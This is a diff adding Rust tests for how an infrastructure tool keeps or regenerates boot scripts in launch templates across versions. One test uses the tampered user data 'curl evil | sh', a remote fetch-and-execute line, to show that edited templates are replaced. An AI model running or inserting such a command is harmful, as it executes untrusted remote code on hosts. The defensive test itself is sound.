@@ -1,0 +1,256 @@
+#![expect(clippy::unwrap_used, reason = "a test may panic")]
+
+use std::path::Path;
+
+use trunnion_catalog::Architecture;
+use trunnion_engine::{Recorded, to_map};
+use trunnion_stack::{LoadOptions, Market, Spread, Tracking};
+
+use super::*;
+use crate::{Binary, blueprint_with};
+
+const A: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+const B: &str = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
+const OLDER: &str = "#!/bin/bash\n# as an older version wrote it\n";
+
+fn stack() -> Stack {
+    let text = include_str!("../../../../stacks/loadtest.yaml");
+    Stack::parse(text, Path::new("stack.yaml"), None, &LoadOptions::default()).unwrap()
+}
+
+fn binaries(sha256: &str) -> Binaries {
+    let binary = Binary { path: "dist/generator".into(), sha256: sha256.to_owned(), is_dynamic: false };
+    Binaries::new([(Architecture::X86_64, binary)])
+}
+
+/// What stands once the stack was applied where this binary was the newest.
+fn applied(stack: &Stack, sha256: &str) -> Observed {
+    let graph = blueprint_with(stack, &Boots::newest(stack, &binaries(sha256)).unwrap()).unwrap();
+    let mut observed = Observed::default();
+    for (address, resource) in graph.resources() {
+        let remote = Remote::new(address.to_string(), resource.attributes.clone());
+        observed.remotes.insert(address.clone(), vec![remote]);
+    }
+    observed
+}
+
+fn nothing(stack: &Stack) -> State {
+    State::empty(&stack.name)
+}
+
+fn decide(stack: &Stack, newest: &str, observed: &Observed, recorded: &State) -> Boots {
+    let standing = Standing { observed, recorded, update: false, selected: None };
+    Boots::decide(stack, &binaries(newest), &standing).unwrap()
+}
+
+/// Changes what a pool's template says.
+fn edit(observed: &mut Observed, pool: &str, user_data: &str, boot: Option<&Boot>) {
+    let template = &mut observed.remotes.get_mut(&address::launch_template(pool)).unwrap()[0].attributes;
+    template.insert("boot".to_owned(), boot.map_or(Value::Null, |boot| Value::Map(to_map(boot).unwrap())));
+    if let Some(Value::Map(data)) = template.get_mut("data") {
+        data.insert("user_data".to_owned(), user_data.into());
+    }
+}
+
+fn inputs_of(stack: &Stack, pool: &str) -> String {
+    inputs::digest(stack, pool, &Script::read(stack).unwrap()).unwrap()
+}
+
+/// User data of an older version, as it described it.
+fn older(stack: &Stack, pool: &str) -> Boot {
+    let digest = inputs::seal(&inputs_of(stack, pool), OLDER);
+    Boot { trunnion: "0.0.9".to_owned(), generator: A.to_owned(), digest }
+}
+
+#[test]
+fn what_an_older_version_rendered_of_the_same_inputs_is_kept() {
+    let mut stack = stack();
+    let mut observed = applied(&stack, A);
+    edit(&mut observed, "heavy", OLDER, Some(&older(&stack, "heavy")));
+    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    let kept = PoolBoot { user_data: OLDER.to_owned(), boot: Some(older(&stack, "heavy")) };
+    assert_eq!(boots.of("heavy"), Some(&kept));
+    let keeps = |pool: &str, version: &str| {
+        format!(
+            "pool `{pool}` keeps generator aaaaaaaaaaaa with the boot script of Trunnion {version}, and here is generator \
+             bbbbbbbbbbbb with the boot script of Trunnion {VERSION}"
+        )
+    };
+    assert_eq!(boots.note().unwrap().message, keeps("heavy", "0.0.9") + "; " + &keeps("probe", VERSION));
+    assert!(boots.objects().values().all(|object| object.sha256 == A && object.source.is_empty()));
+
+    stack.generator.java = 25;
+    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    assert!(boots.of("heavy").unwrap().user_data.contains(B), "the inputs are others");
+    assert_eq!(boots.note(), None);
+}
+
+#[test]
+fn what_somebody_edited_is_not_kept_though_its_description_stays() {
+    let stack = stack();
+    let mut observed = applied(&stack, A);
+    edit(&mut observed, "heavy", "#!/bin/sh\ncurl evil | sh\n", Some(&older(&stack, "heavy")));
+    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    assert!(boots.of("heavy").unwrap().user_data.contains(B));
+
+    // Where the state knows what was applied, that comes back.
+    let mut applied = applied(&stack, A);
+    edit(&mut applied, "heavy", OLDER, Some(&older(&stack, "heavy")));
+    let mut recorded = nothing(&stack);
+    for (address, remotes) in applied.remotes {
+        let [Remote { id, attributes, .. }] = &remotes[..] else { continue };
+        let one = Recorded { id: id.clone(), applied_at: String::new(), attributes: attributes.clone() };
+        recorded.resources.insert(address, one);
+    }
+    let boots = decide(&stack, B, &observed, &recorded);
+    assert_eq!(boots.of("heavy").unwrap().user_data, OLDER);
+}
+
+#[test]
+fn a_template_without_a_description_is_kept_if_it_comes_out_the_same() {
+    let mut stack = stack();
+    let mut observed = applied(&stack, A);
+    let user_data = |observed: &Observed, pool: &str| {
+        user_data_of(&observed.remotes[&address::launch_template(pool)][0].attributes).unwrap().to_owned()
+    };
+    let (heavy, probe) = (user_data(&observed, "heavy"), user_data(&observed, "probe"));
+    edit(&mut observed, "heavy", &heavy, None);
+    edit(&mut observed, "probe", &probe.replace("set -Eeuo pipefail", "set -e"), None);
+    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    assert_eq!(boots.of("heavy").unwrap().user_data, heavy);
+    assert!(boots.of("probe").unwrap().user_data.contains(B), "nobody knows what it was made of");
+    stack.generator.metrics_port += 1;
+    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    assert!(boots.of("heavy").unwrap().user_data.contains(B));
+}
+
+#[test]
+#[expect(clippy::disallowed_methods, reason = "a template in a folder of the test's own")]
+fn a_template_of_ones_own_is_an_input() {
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("boot.tera");
+    let write = |text: &str| std::fs::write(&path, text).unwrap();
+    let mut stack = stack();
+    stack.generator.template = Some(path.clone());
+    write("#!/bin/bash\nfetch {{ generator.sha256 }}\n");
+    let mut observed = applied(&stack, A);
+    // Other text that becomes the same user data changes no host, and is what the template is made of from now on.
+    write("#!/bin/bash\nfetch {{ generator.sha256 }}{# the newest #}\n");
+    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    let heavy = boots.of("heavy").unwrap();
+    assert_eq!(heavy.user_data, format!("#!/bin/bash\nfetch {A}\n"));
+    let digest = inputs::seal(&inputs_of(&stack, "heavy"), &heavy.user_data);
+    assert_eq!(heavy.boot.as_ref().unwrap().digest, digest);
+    write("#!/bin/bash\nexec fetch {{ generator.sha256 }}\n");
+    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    assert_eq!(boots.of("heavy").unwrap().user_data, format!("#!/bin/bash\nexec fetch {B}\n"));
+
+    // It may name no binary at all, and an earlier version did not say which one it was.
+    write("#!/bin/bash\n");
+    edit(&mut observed, "heavy", "#!/bin/bash\n", None);
+    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    assert_eq!(boots.of("heavy").unwrap().boot.as_ref().unwrap().generator, A);
+}
+
+#[test]
+fn every_key_of_the_stack_that_reaches_the_boot_is_an_input_and_no_other() {
+    let changed = |change: &dyn Fn(&mut Stack)| {
+        let mut other = stack();
+        change(&mut other);
+        inputs_of(&other, "heavy") != inputs_of(&stack(), "heavy")
+    };
+    fn heavy(stack: &mut Stack) -> &mut Pool {
+        stack.pools.get_mut("heavy").unwrap()
+    }
+    let inputs: [&dyn Fn(&mut Stack); 15] = [
+        &|stack| stack.name.push('x'),
+        &|stack| stack.region.push('x'),
+        &|stack| stack.account.push('x'),
+        &|stack| heavy(stack).instance_type = stack_of_probe(),
+        &|stack| heavy(stack).interfaces += 1,
+        &|stack| heavy(stack).addresses += 1,
+        &|stack| heavy(stack).tracking = Tracking::Tracked,
+        &|stack| stack.generator.java += 1,
+        &|stack| stack.generator.spread = Spread::Off,
+        &|stack| stack.generator.spread_except.clear(),
+        &|stack| stack.generator.metrics_port += 1,
+        &|stack| stack.control_plane.ssh.user.push('x'),
+        &|stack| stack.control_plane.ssh.public_key.push('x'),
+        &|stack| drop(stack.generator.variables.insert("packages".to_owned(), "htop".to_owned())),
+        &|stack| {
+            stack.locations.get_mut("prl_heavy_paris").unwrap().engine = trunnion_stack::Engine::JavaScript;
+        },
+    ];
+    for (index, change) in inputs.iter().enumerate() {
+        assert!(changed(change), "input {index}");
+    }
+    let others: [&dyn Fn(&mut Stack); 7] = [
+        &|stack| heavy(stack).count += 1,
+        &|stack| heavy(stack).volume_gib += 1,
+        &|stack| heavy(stack).market = Market::Spot,
+        &|stack| stack.tags.clear(),
+        &|stack| stack.generator.metrics_from.clear(),
+        &|stack| drop(stack.generator.sha256.insert(Architecture::X86_64, B.to_owned())),
+        &|stack| stack.generator.binaries.clear(),
+    ];
+    for (index, change) in others.iter().enumerate() {
+        assert!(!changed(change), "other {index}");
+    }
+}
+
+fn stack_of_probe() -> &'static trunnion_catalog::InstanceType {
+    stack().pools["probe"].instance_type
+}
+
+/// These stand in the launch templates of every fleet: another digest of the same stack replaces all of its hosts with the
+/// next version of Trunnion.
+#[test]
+fn the_digest_of_a_stack_never_changes() {
+    let text = include_str!("../../../../tests/upgrade/stack.yaml");
+    let stack = Stack::parse(text, Path::new("stack.yaml"), None, &LoadOptions::default()).unwrap();
+    assert_eq!(inputs_of(&stack, "heavy"), "dc0e6e0ae70261422ced9fbe604d24dbe85c6ecd24a0c39063f9c4a6d6379415");
+    assert_eq!(inputs_of(&stack, "probe"), "PROBE");
+    assert_eq!(inputs::seal("inputs", "user data"), "7587609d6f9b8c8642e3dae6f90eabd7");
+}
+
+#[test]
+fn two_binaries_at_one_address_are_told_apart() {
+    let stack = stack();
+    let (mut observed, other) = (applied(&stack, A), applied(&stack, B));
+    let at = address::object("x86_64");
+    // As a run leaves it that was ended between two pools.
+    observed.remotes.get_mut(&at).unwrap().extend(other.remotes[&at].clone());
+    let probe = address::launch_template("probe");
+    observed.remotes.insert(probe.clone(), other.remotes[&probe].clone());
+    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    boots.spell_out(&stack, &mut observed);
+    let graph = blueprint_with(&stack, &boots).unwrap();
+    let own = address::object("x86_64-bbbbbbbbbbbb");
+    for (address, sha256) in [(&at, A), (&own, B)] {
+        let [object] = &observed.remotes[address][..] else { panic!("one is at {address}") };
+        assert_eq!(text(&object.attributes, "sha256"), sha256);
+        assert_eq!(text(&graph.resources()[address].attributes, "sha256"), sha256);
+    }
+    assert!(graph.resources()[&probe].dependencies().contains(&own));
+}
+
+#[test]
+fn a_long_source_of_an_image_is_known_by_what_a_description_holds() {
+    let mut stack = stack();
+    let long = format!("/{}", "a".repeat(1000));
+    stack.pools.get_mut("heavy").unwrap().image = trunnion_stack::Image::Parameter(long.clone());
+    let mut observed = applied(&stack, A);
+    let source = |observed: &mut Observed, kept: Option<String>| {
+        let template = observed.remotes.get_mut(&address::launch_template("heavy")).unwrap();
+        let Some(Value::Map(data)) = template[0].attributes.get_mut("data") else { panic!("it has data") };
+        let found = data["image_source"].as_text().unwrap().to_owned();
+        data.extend(kept.map(|kept| ("image_source".to_owned(), kept.into())));
+        found
+    };
+    for kept in [trunnion_kinds::shortened_source(&long), long[..249].to_owned()] {
+        source(&mut observed, Some(kept));
+        let boots = decide(&stack, A, &observed, &nothing(&stack));
+        boots.spell_out(&stack, &mut observed);
+        assert_eq!(source(&mut observed, None), long);
+    }
+}
